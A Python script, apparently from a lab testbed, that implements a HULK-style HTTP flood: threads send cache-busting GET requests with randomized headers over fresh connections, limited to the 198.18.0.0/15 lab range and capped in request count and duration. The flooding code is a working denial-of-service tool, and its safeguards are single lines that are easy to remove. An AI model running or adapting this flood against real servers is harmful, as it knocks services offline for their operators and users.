#!/usr/bin/env python3
"""An HTTP flood in the style of "Hulk" (HTTP Unbearable Load King), for --scenario http.

Every request on a new TCP connection, closed after the answer: GET URL?<random key>=<random
value> with a random User-Agent, a random Referer, "Cache-Control: no-cache" and a Keep-Alive
header (which the tool sends and never uses), from --threads threads as fast as the server
answers. Bounded by --count requests in all and --seconds; the target must be a lab address
(198.18.0.0/15).

    python3 lab/hulk.py --url http://198.18.0.10/ --count 1000 --threads 12 --seconds 30 --seed 1
"""
import argparse
import ipaddress
import random
import socket
import string
import threading
import time
import urllib.parse

AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.229 Version/11.62",
]
REFERERS = ["http://www.google.com/?q=", "http://www.usatoday.com/search/results?q=",
            "http://engadget.search.aol.com/search?q=", "http://www.bing.com/search?q="]


def word(r, lo, hi):
    return "".join(r.choice(string.ascii_letters) for _ in range(r.randint(lo, hi)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--count", type=int, required=True, help="requests in all (at most 20000)")
    ap.add_argument("--threads", type=int, default=8)
    ap.add_argument("--seconds", type=float, default=30, help="stop after this long (at most 120)")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    u = urllib.parse.urlsplit(a.url)
    host, port = u.hostname, u.port or 80
    if ipaddress.ip_address(host) not in ipaddress.ip_network("198.18.0.0/15"):
        raise SystemExit(f"{host}: not a lab address (198.18.0.0/15)")
    count = min(a.count, 20000)
    deadline = time.monotonic() + min(a.seconds, 120)
    base = u.path or "/"
    left = [count]
    done = [0, 0]  # answered, failed
    lock = threading.Lock()

    def worker(k):
        r = random.Random(a.seed * 1000 + k)
        while time.monotonic() < deadline:
            with lock:
                if left[0] <= 0:
                    return
                left[0] -= 1
            q = f"{base}?{word(r, 3, 10)}={word(r, 3, 10)}"
            req = (f"GET {q} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {r.choice(AGENTS)}\r\n"
                   f"Cache-Control: no-cache\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n"
                   f"Referer: {r.choice(REFERERS)}{word(r, 5, 10)}\r\n"
                   f"Keep-Alive: {r.randint(110, 120)}\r\nConnection: close\r\n\r\n")
            ok = False
            try:
                with socket.create_connection((host, port), timeout=5) as s:
                    s.sendall(req.encode())
                    while s.recv(65536):
                        pass
                    ok = True
            except OSError:
                pass
            with lock:
                done[0 if ok else 1] += 1

    ts = [threading.Thread(target=worker, args=(k,), daemon=True) for k in range(max(1, min(a.threads, 64)))]
    t0 = time.monotonic()
    for t in ts:
        t.start()
    for t in ts:
        t.join(max(0.0, deadline - time.monotonic()) + 6)
    print(f"hulk: {done[0]} answered, {done[1]} failed in {time.monotonic() - t0:.2f} s", flush=True)


if __name__ == "__main__":
    main()
